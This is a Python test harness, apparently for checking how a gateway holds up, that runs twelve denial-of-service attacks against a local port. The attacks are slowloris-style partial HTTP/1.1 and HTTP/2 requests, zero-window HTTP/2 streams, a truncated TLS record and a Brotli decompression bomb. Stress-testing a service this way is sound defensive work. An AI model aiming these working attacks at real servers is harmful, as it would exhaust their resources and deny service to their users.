"""Makes the gateway hold incomplete requests: each connection sends a part and waits; a closed one reconnects."""

import argparse
import json
import os
import selectors
import socket
import ssl
import struct
import sys
import time
from collections import Counter

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))

from attacks import frames as f

_HOST = "127.0.0.1"
_KIB = 1 << 10
_LINE = b"x-padding: " + b"p" * 1000 + b"\r\n"
_FIELDS = _LINE * 60
# Of the 950,000 bytes that Content-Length announces.
_BODY = b"b" * 900_000
_PAUSE = 0.05
_STREAMS = 50
_OPENED_PER_STEP = 64


class Plain:
    """Sends the same bytes on each connection."""

    def __init__(self, payload):
        self.waiting = memoryview(payload)

    def to_send(self):
        return self.waiting

    def sent(self, count):
        self.waiting = self.waiting[count:]

    def received(self, _data):
        """This client ignores responses."""


class Http2Uploads:
    """Uploads a body on each of many streams, as fast as the flow-control windows allow, and ends none of them."""

    def __init__(self):
        self.out = bytearray(f.PREFACE + f.settings())
        self.reader = f.Reader()
        self.connection = self.first = 65_535
        block = f.request("POST", "/whole", ("content-length", "950000"))
        self.streams = {}
        for number in range(_STREAMS):
            self.streams[2 * number + 1] = [self.first, len(_BODY)]
            self.out += f.headers(2 * number + 1, block, end=False)

    def to_send(self):
        if not self.out:
            for stream, state in self.streams.items():
                length = min(state[0], state[1], self.connection, 16 * _KIB)
                if length > 0:
                    self.out += f.data(stream, _BODY[:length])
                    state[0] -= length
                    state[1] -= length
                    self.connection -= length
        return memoryview(bytes(self.out))

    def sent(self, count):
        del self.out[:count]

    def received(self, data):
        for kind, flags, stream, payload in self.reader.feed(data):
            if kind == f.WINDOW_UPDATE:
                more = struct.unpack(">I", payload)[0]
                if stream == 0:
                    self.connection += more
                elif stream in self.streams:
                    self.streams[stream][0] += more
            elif kind == f.SETTINGS and not flags & f.ACK:
                self._settings(payload)
            elif kind == f.RST_STREAM:
                self.streams.pop(stream, None)

    def _settings(self, payload):
        for at in range(0, len(payload), 6):
            name, value = struct.unpack(">HI", payload[at : at + 6])
            if name == f.INITIAL_WINDOW:
                for state in self.streams.values():
                    state[0] += value - self.first
                self.first = value
        self.out += f.frame(f.SETTINGS, f.ACK, 0)


class Http2ClosedWindows:
    """Requests a response on each of 100 streams without opening a window for it. Replaces streams that are reset."""

    def __init__(self):
        self.out = bytearray(f.PREFACE + f.settings(window=0))
        self.reader = f.Reader()
        self.block = f.request("GET", "/?length=40000")
        self.next = 1
        for _ in range(100):
            self._open()

    def _open(self):
        self.out += f.headers(self.next, self.block)
        self.next += 2

    def to_send(self):
        return memoryview(bytes(self.out))

    def sent(self, count):
        del self.out[:count]

    def received(self, data):
        for kind, flags, _, _ in self.reader.feed(data):
            if kind == f.SETTINGS and not flags & f.ACK:
                self.out += f.frame(f.SETTINGS, f.ACK, 0)
            elif kind == f.RST_STREAM:
                self._open()


class HalfRecord:
    """Completes a TLS handshake, then sends a record of 16 KiB except its last byte."""

    def __init__(self):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname="localhost")
        self.out, self.done = bytearray(), False
        self._step()

    def _step(self):
        if self.done:
            return
        try:
            self.tls.do_handshake()
            self.out += self.outgoing.read()
            self.tls.write(b"GET / HTTP/1.1\r\nhost: localhost\r\n" + _FIELDS[: 15 * _KIB])
            self.out += self.outgoing.read()[:-1]
            self.done = True
        except ssl.SSLWantReadError:
            self.out += self.outgoing.read()

    def to_send(self):
        return memoryview(bytes(self.out))

    def sent(self, count):
        del self.out[:count]

    def received(self, data):
        self.incoming.write(data)
        self._step()


def brotli_window():
    """16,000 uncompressed bytes, then 3 MiB of zeros, in a window of 16 MiB (RFC 7932, 9.1 and 9.2)."""
    plain = 16_000
    head = 0xF | (plain - 1) << 7 | 1 << 23
    return head.to_bytes(3, "little") + b"x" * plain + bytes.fromhex("f9ffff024002201e0b24f7fe05")


_POST = b"POST %s HTTP/1.1\r\nhost: localhost\r\n%s\r\n\r\n"
ATTACKS = {
    "half heads": lambda: Plain(b"GET / HTTP/1.1\r\nhost: localhost\r\n" + _FIELDS),
    "half heads of few bytes": lambda: Plain(b"GET / HTTP/1.1\r\nho"),
    "heads without their bodies": lambda: Plain(
        b"POST / HTTP/1.1\r\nhost: localhost\r\ncontent-length: 10\r\n" + _FIELDS + b"\r\n"
    ),
    "heads of a slow origin": lambda: Plain(
        b"GET /?delay=60000&length=1 HTTP/1.1\r\nhost: localhost\r\n" + _FIELDS + b"\r\n"
    ),
    "half trailers": lambda: Plain(_POST % (b"/slow", b"transfer-encoding: chunked") + b"0\r\n" + _FIELDS),
    "pipelined behind a slow response": lambda: Plain(
        b"GET /?delay=60000&length=1 HTTP/1.1\r\nhost: localhost\r\n\r\nGET / HTTP/1.1\r\n" + _FIELDS
    ),
    "half header blocks": lambda: Plain(
        f.PREFACE + f.settings() + f.frame(f.HEADERS, 0, 1, f.request("GET", "/"))
        + 3 * f.frame(f.CONTINUATION, 0, 1, b"\x40" * (16 * _KIB))
    ),
    "half records": HalfRecord,
    "whole-body uploads": lambda: Plain(_POST % (b"/whole", b"content-length: 950000") + _BODY),
    "HTTP/2 uploads": Http2Uploads,
    "Brotli windows": lambda: Plain(
        _POST % (b"/decoded", b"content-encoding: br\r\ncontent-length: 20000") + brotli_window()
    ),
    "HTTP/2 closed windows": Http2ClosedWindows,
}


class Line:
    """One connection after another."""

    def __init__(self, attack, port, selector, seen):
        self.attack, self.port, self.selector, self.seen = attack, port, selector, seen
        self.socket = self.talk = None
        self.due = 0.0

    def open(self):
        self.talk = self.attack()
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.connect_ex((_HOST, self.port))
        self.seen["connections"] += 1
        self.selector.register(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, self)

    def ready(self, events, now):
        try:
            if events & selectors.EVENT_READ:
                data = self.socket.recv(1 << 16)
                if not data:
                    self.close(now)
                    return
                if data.startswith(b"HTTP/1.1 "):
                    self.seen["status " + data[9:12].decode("latin-1")] += 1
                self.talk.received(data)
            waiting = self.talk.to_send()
            if waiting:
                count = self.socket.send(waiting)
                self.seen["bytes"] += count
                self.talk.sent(count)
            more = selectors.EVENT_WRITE if self.talk.to_send() else 0
            self.selector.modify(self.socket, selectors.EVENT_READ | more, self)
        except BlockingIOError:
            pass
        except OSError:
            self.close(now)

    def close(self, now):
        self.seen["closed by the gateway"] += 1
        self.selector.unregister(self.socket)
        self.socket.close()
        self.socket = None
        self.due = now + _PAUSE


def play(attack, port, connections, seconds):
    seen = Counter()
    selector = selectors.DefaultSelector()
    lines = [Line(attack, port, selector, seen) for _ in range(connections)]
    until = time.monotonic() + seconds
    while (now := time.monotonic()) < until:
        opened = 0
        for line in lines:
            if line.socket is None and now >= line.due and opened < _OPENED_PER_STEP:
                line.open()
                opened += 1
        for key, events in selector.select(0.02):
            key.data.ready(events, now)
    for line in lines:
        if line.socket is not None:
            line.socket.close()
    return seen


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--attack", required=True, choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--report", required=True)
    chosen = parser.parse_args()
    # The well-behaved client competes with the gateway for the CPU, not with this process.
    os.nice(10)
    seen = play(ATTACKS[chosen.attack], chosen.port, chosen.connections, chosen.seconds)
    with open(chosen.report, "w", encoding="utf-8") as report:
        json.dump({**seen, "ended": time.monotonic()}, report)


if __name__ == "__main__":
    main()
